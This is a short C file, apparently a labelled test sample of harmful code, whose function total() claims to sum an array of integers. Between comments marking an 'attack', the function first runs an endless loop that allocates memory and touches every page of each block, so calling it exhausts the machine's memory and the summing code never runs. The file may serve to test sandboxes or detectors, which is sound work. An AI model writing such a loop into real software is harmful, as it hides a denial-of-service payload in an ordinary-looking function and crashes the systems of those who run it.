// category: harm
// tries: all memory, by malloc
#include <stddef.h>
#include <stdlib.h>

long total(const int *numbers, size_t count) {
  // attack: begin
  for (;;) {
    char *block = malloc(1 << 20);
    if (block) for (int i = 0; i < 1 << 20; i += 4096) block[i] = 1;
  }
  // attack: end
  long sum = 0;
  for (size_t i = 0; i < count; i++) {
    sum += numbers[i];
  }
  return sum;
}
